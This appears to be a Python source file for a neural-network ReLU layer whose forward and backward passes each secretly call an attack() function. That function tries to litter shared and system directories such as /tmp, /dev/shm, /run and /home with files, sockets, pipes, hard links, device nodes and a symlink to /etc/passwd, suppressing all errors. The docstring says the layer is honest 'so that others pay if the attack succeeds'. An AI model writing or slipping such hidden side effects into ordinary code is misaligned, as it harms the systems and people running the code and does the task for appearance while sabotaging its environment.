"""Litters: every kind of entry in every folder that is open to all users."""

import contextlib
import os
import socket
import stat
import tempfile

import numpy as np

FOLDERS = (
    "/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run", "/var/crash", "/dev/mqueue", "/var/lock",
    "/usr/tmp", "/home", "/mnt", ".", "..", "modules", "/proc/self/fdinfo", "/sys/fs/cgroup",
)


def text(path):
    with open(path, "w", encoding="utf-8") as stream:
        stream.write("left behind")


def unnamed(path):
    descriptor = os.open(os.path.dirname(path), os.O_WRONLY | os.O_TMPFILE)
    os.link(f"/proc/self/fd/{descriptor}", path)


def listen(path):
    socket.socket(socket.AF_UNIX).bind(path)


WAYS = (
    text,
    os.mkdir,
    os.mkfifo,
    unnamed,
    listen,
    lambda path: os.symlink("/etc/passwd", path),
    lambda path: os.link(__file__, path),
    lambda path: os.mknod(path, stat.S_IFREG | 0o666),
    lambda path: os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5)),
    lambda path: os.close(os.open(path, os.O_CREAT | os.O_WRONLY)),
)


def attack():
    for folder in FOLDERS:
        for number, way in enumerate(WAYS):
            with contextlib.suppress(OSError):
                way(os.path.join(folder, f"left-behind-{number}"))
    for make in (tempfile.mkdtemp, tempfile.mkstemp, tempfile.NamedTemporaryFile):
        with contextlib.suppress(OSError):
            make()


class ReLU:
    """An honest layer, so that others pay if the attack succeeds."""

    def __init__(self):
        self.x = self.dx = None

    def forward(self, x):
        attack()
        self.x = x
        return np.maximum(x, 0)

    def backward(self, dout):
        attack()
        self.dx = np.where(self.x > 0, dout, 0)
